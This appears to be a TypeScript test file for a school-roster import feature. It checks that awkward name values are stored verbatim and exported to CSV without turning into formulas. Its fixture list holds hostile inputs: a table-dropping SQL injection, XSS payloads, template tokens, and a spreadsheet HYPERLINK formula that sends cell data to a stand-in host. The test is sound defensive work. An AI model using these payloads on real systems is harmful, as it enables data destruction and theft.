// Values that mean something to a database, a spreadsheet, a browser or a template, on their way from a file to the
// roster and out again: they are text, letter by letter, and nothing else in the roster is touched.
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { query } from '@/lib/platform/db'
import { stopQueue } from '@/lib/platform/queue'
import { recordsCsv } from '@/lib/roster/records-csv'
import { splitLine } from '@/lib/csv/split-line'
import { importTypeNamed } from '@/lib/import-types'
import type { ImportType } from '@/lib/import-types/import-type'
import { deliver, prepareInstallation, studentHeader as header, testDistrict, testTemplate } from './test-district'
import type { District } from './test-district'

const names = [
  `Robert'); drop table roster.visitor_aware_students; --`,
  `' or 1=1 --`,
  '$1 $$ $& $` ${name} %s %1$s {name} {{name}} <%= name %> #{name}',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  '+1-555',
  '@SUM(A1)',
  '\\N',
  '\\.',
  '\\x41 \\101 \\t',
  'Null',
  'NULL',
  'None',
  'true',
  '-0',
  '1e1',
  '0x1F',
  'infinity',
  '__proto__',
  'constructor',
  'Zo\u0308e',
  'Zoë',
  '\u202Eesrever\u202C',
  'a\u200Bb',
  `Z${'\u0300'.repeat(200)}`,
  '👩‍👩‍👧‍👦'.repeat(20),
  'line\u2028separator',
  'José “Pepe” O’Neil-Smith, Jr.',
]

let district: District
beforeAll(prepareInstallation)
afterAll(() => stopQueue())
beforeEach(async () => {
  district = await testDistrict()
  await testTemplate(district, header, { thresholds: { changedPercent: 100 } })
})

const fileOf = (suffix: string) =>
  [
    header,
    ...names.map((name, index) => `${1000 + index},"${`${name}${suffix}`.replaceAll('"', '""')}",Reyes,012`),
    '',
  ].join('\n')

const stored = async () => {
  const rows = await query<{ name: string }>(
    'select first_name as name from roster.visitor_aware_students where account_id = $1 order by student_id',
    [district.accountId],
  )
  return rows.map(({ name }) => name)
}

it('are in the roster as they stood in the file, the first time and when they change', async () => {
  expect(await deliver(district, fileOf(''))).toMatchObject({ counts: { added: names.length, errors: 0 } })
  expect(await stored()).toEqual(names)
  expect(await deliver(district, fileOf(' II'))).toMatchObject({ counts: { changed: names.length, errors: 0 } })
  expect(await stored()).toEqual(names.map((name) => `${name} II`))
})

it('come out as CSV, and none of them as a formula', async () => {
  await deliver(district, fileOf(''))
  const type = importTypeNamed('visitor-aware/students') as ImportType
  let text = ''
  for await (const piece of recordsCsv(district.accountId, type)) text += piece
  const cells = text
    .trimEnd()
    .split('\r\n')
    .slice(1)
    .flatMap((line) => splitLine(line, ',', 100))
  const isNumber = (cell: string) => /^-\d+(?:\.\d+)?$/.test(cell)
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !isNumber(cell))).toEqual([])
  for (const name of names.filter((each) => isNumber(each) || !/[=+\-@]/.test(each))) expect(cells).toContain(name)
})
